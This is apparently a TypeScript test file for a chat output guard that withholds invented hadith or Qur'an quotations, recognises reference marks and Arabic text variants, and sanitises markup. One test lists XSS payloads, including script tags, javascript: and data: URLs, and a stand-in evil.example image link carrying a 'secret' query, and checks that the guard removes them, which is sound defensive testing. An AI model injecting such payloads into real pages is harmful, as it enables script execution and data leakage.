import { expect, test } from "vitest";
import { type Language, languages } from "#i18n/shared/languages.ts";
import { createTestGuard, cut, finish, otherThanProse, proseIn } from "../../../../tests/support/chat/test-guard.ts";
import { corpusText } from "../../../../tests/support/corpus/corpus.ts";
import { plainLetters, withoutMarks } from "../../../../tests/support/corpus/quotation-corpus.ts";
import { createGuard } from "./create-guard.ts";

const { guard, quotations } = await createTestGuard();
const typed = (ref: string) => withoutMarks(corpusText("ar-imlaei", ref));
const reference = (ref: string, of = "quran") => ({ kind: "reference", of, ref });
const exact = (ref: string) => ({ kind: "quotation", of: "quran", ref, by: "exact" });
const withheld = (of: string) => ({ kind: "withheld", of });
/** An invented saying in each language. */
const invented: Record<Language, string> = {
  en: "whoever plants nine lanterns beside the harbour shall never be cold in winter",
  ar: "من زرع تسعة قناديل عند المرفأ لم يبرد في الشتاء أبدا وكان له قارب",
  pl: "kto zasadzi dziewięć latarni przy porcie, nigdy nie zmarznie zimą i znajdzie łódź",
  tr: "limanın yanına dokuz fener diken kimse kışın asla üşümez ve bir kayık bulur",
  id: "siapa menanam sembilan lentera di tepi pelabuhan tidak akan kedinginan selamanya",
  ur: "جو بندرگاہ کے پاس نو چراغ لگائے گا وہ سردی میں کبھی نہیں ٹھٹھرے گا اور کشتی پائے گا",
};
const told: Record<Language, string> = {
  en: "The Prophet (peace be upon him) said",
  ar: "قال رسول الله صلى الله عليه وسلم",
  pl: "Prorok powiedział",
  tr: "Peygamber Efendimiz şöyle buyurdu",
  id: "Rasulullah bersabda",
  ur: "رسول اللہ نے فرمایا",
};
const spoken: Record<Language, string> = {
  en: "Allah says in the Qur’an",
  ar: "قال الله تعالى",
  pl: "Allah mówi w Koranie",
  tr: "Allah Kur’an’da şöyle buyurur",
  id: "Allah berfirman",
  ur: "اللہ تعالیٰ نے فرمایا",
};
const frames: ((leadIn: string, words: string) => string)[] = [
  (leadIn, words) => `${leadIn}: “${words}”.`,
  (leadIn, words) => `${leadIn}: «${words}».`,
  (leadIn, words) => `${leadIn}: "${words}"`,
  (leadIn, words) => `${leadIn}: ${words}.`,
  (leadIn, words) => `${leadIn}:\n\n> ${words}\n`,
  (leadIn, words) => `${leadIn}:\n\n> “${words}”\n`,
  (leadIn, words) => `${leadIn}:\n- “${words}”\n`,
  (leadIn, words) => `${leadIn}:\n- ${words}\n`,
  (leadIn, words) => `${leadIn}:\n1. *${words}*\n`,
  (leadIn, words) => `${leadIn}:\n\n### “${words}”\n`,
  (leadIn, words) => `${leadIn}:\n\n## ${words}\n`,
  (leadIn, words) => `**${leadIn}:** **${words}**`,
  (leadIn, words) => `${leadIn}: <q>${words}</q>`,
  (leadIn, words) => `${leadIn}: \`${words}\``,
  (leadIn, words) => `${leadIn}: [${words}](https://example.org)`,
];

test.for(languages)("guard: an invented saying in %s is withheld in every format", (language) => {
  for (const frame of frames) {
    const text = frame(told[language], invented[language]);
    const shown = guard(text, language);
    expect.soft(otherThanProse(shown), text).toEqual([withheld("hadith")]);
    expect.soft(plainLetters(proseIn(shown)), text).not.toContain(plainLetters(invented[language]).slice(0, 20));
  }
});

test.for(languages)("guard: an invented verse in %s is withheld in every format", (language) => {
  for (const frame of frames) {
    const text = frame(spoken[language], invented[language]);
    const shown = guard(text, language);
    const kind = language === "ar" ? "quran" : "translation";
    expect.soft(otherThanProse(shown), text).toEqual([withheld(kind)]);
    expect.soft(plainLetters(proseIn(shown)), text).not.toContain(plainLetters(invented[language]).slice(0, 20));
  }
});

test("guard: a reference mark is recognised across any chunks", () => {
  for (const [mark, piece] of [
    ["[quran:94:5-6]", reference("94:5-6")],
    ["[hadith:sample:1:1]", reference("sample:1:1", "hadith")],
    ["[tafsir:sample:2:153]", reference("sample:2:153", "tafsir")],
    ["[reflection]", { kind: "reflection" }],
  ] as const) {
    const text = `Ease comes after hardship ${mark} and it is near.`;
    for (let at = 0; at <= text.length; at += 1) {
      expect.soft(otherThanProse(guard([text.slice(0, at), text.slice(at)])), `${mark} ${at}`).toEqual([piece]);
    }
    expect(guard([...text])).toEqual(guard(text));
  }
});

test("guard: unclosed brackets and endless marks pass quickly and leave the rest intact", () => {
  const long = "x".repeat(10_000);
  for (const noise of [
    "[".repeat(5_000),
    "](".repeat(2_000),
    "[quran:".repeat(1_000),
    `[quran:${long}]`,
    `[${long}]`,
    `[a](${long}`,
    `${"(".repeat(3_000)}`,
    "*".repeat(5_000),
    "> ".repeat(2_000),
    "<".repeat(5_000),
    "﴿".repeat(3_000),
    "“".repeat(3_000),
  ]) {
    const started = performance.now();
    const one = guard(cut(`Rest a while. ${noise}\n\nThen go on slowly.`, [7]));
    expect.soft(performance.now() - started, noise.slice(0, 10)).toBeLessThan(5_000);
    expect.soft(proseIn(one), noise.slice(0, 10)).toContain("Rest a while.");
    expect.soft(proseIn(one), noise.slice(0, 10)).toContain("Then go on slowly.");
    expect
      .soft(
        otherThanProse(one).every(({ kind }) => kind !== "quotation"),
        noise.slice(0, 10),
      )
      .toBe(true);
  }
});

test("guard: the combining marks of one letter take time by their number", () => {
  const started = process.cpuUsage();
  guard(cut(`Rest a while. a${"\u0301".repeat(23_000)}x\n\nThen go on slowly.`, [1_000]));
  const { user, system } = process.cpuUsage(started);
  expect((user + system) / 1000).toBeLessThan(2_000);
});

test("guard: a verse is recognised without vowels, with tatweel, presentation forms and invisible characters", () => {
  const bare = typed("2:153");
  const shaped = bare
    .replaceAll("الله", "\uFDF2")
    .replace(/لا/gu, "\uFEFB")
    .replace(/ا/gu, "\uFE8D")
    .replace(/ب/gu, "\uFE91")
    .replace(/ن/gu, "\uFEE5");
  const written = [
    bare,
    bare.replace(/(?<=[بتسصلمن])(?=\p{L})/gu, "\u0640\u0640"),
    [...bare].join("\u200b"),
    [...bare].join("\u200c"),
    [...bare].join("\u034f"),
    shaped,
    bare.replace(/\s/gu, "\u00a0"),
  ];
  for (const text of written) {
    expect.soft(otherThanProse(guard(`قال تعالى: ${text}.`, "ar")), text).toEqual([exact("2:153")]);
    expect.soft(otherThanProse(guard(`نعلم جميعا أن ${text} دائما.`, "ar")), text).toEqual([exact("2:153")]);
    expect.soft(otherThanProse(guard(`Remember ${text} always.`)), text).toEqual([exact("2:153")]);
  }
});

test("guard: a reference mark may have Arabic-Indic or Persian digits", () => {
  for (const ref of ["٢:١٥٣", "۲:۱۵۳", " 2:153 "]) {
    expect.soft(otherThanProse(guard(`Patience [quran:${ref}] helps.`)), ref).toEqual([reference("2:153")]);
  }
});

test("guard: tags, scripts, images and links leave neither addresses nor code", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<scr<script></script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='javascript:alert(1)'>go</a>",
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt&#58;alert(1))",
    "[go](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/p.png?q=secret)",
    "[![x](javascript:alert(1))](https://evil.example)",
    "[go][1]\n\n[1]: javascript:alert(1)",
    "<https://evil.example/x>",
    "<style>*{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
  ];
  for (const attack of attacks) {
    const shown = proseIn(guard(cut(`Before ${attack} after.`, [3])));
    expect.soft(shown, attack).not.toMatch(/<\/?[a-z!]|javascript:|data:[a-z]+\/|evil\.example|!\[|\]\(/iu);
    expect.soft(shown, attack).toContain("Before");
    // The content of an unclosed element is dropped.
    if (!attack.includes("<svg")) expect.soft(shown, attack).toContain("after");
  }
});

test("guard: empty and blank input has no output", () => {
  for (const text of ["", " ", "\n\n\n", "\t \r\n", "\u200b\u200f", "\u00a0\u3000", "&nbsp;"]) {
    expect.soft(proseIn(guard([...text])).trim(), JSON.stringify(text)).toBe("");
    expect.soft(otherThanProse(guard(text))).toEqual([]);
  }
});

test("guard: an endless quotation is held back up to a limit", () => {
  const one = createGuard({ quotations, language: "en", readPlace: () => undefined });
  let held = "";
  for (let turn = 0; turn < 1_000; turn += 1) {
    const words = `${turn === 0 ? "Allah says: “" : ""}lantern ${turn} harbour `;
    held = finish(one.push(words)).length > 0 ? "" : held + words;
    expect(held.length).toBeLessThan(3_100);
  }
});
